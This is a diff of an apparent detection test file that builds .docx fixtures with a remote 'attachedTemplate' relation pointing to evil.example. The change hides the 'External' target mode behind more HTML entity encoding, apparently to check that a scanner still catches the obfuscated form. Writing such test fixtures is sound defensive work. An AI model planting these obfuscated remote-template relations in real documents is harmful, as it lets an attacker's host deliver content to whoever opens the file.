@@ -78,7 +78,10 @@ const remote = 'Target="https://evil.example/x" TargetMode="External"'
 const hiddenTemplates: readonly (readonly [how: string, file: () => File])[] = [
   [
     'an entity in its mode',
-    () => docxOfRelation(`${type('attachedTemplate')} Target="https://evil.example/x" TargetMode="&#69;xternal"`),
+    () =>
+      docxOfRelation(
+        `${type('attachedTemplate')} Target="https://evil.example/x" TargetMode="&#69;&#120;&#116;&#101;&#114;&#110;&#97;&#108;"`,
+      ),
   ],
   [
     'an entity in its type',
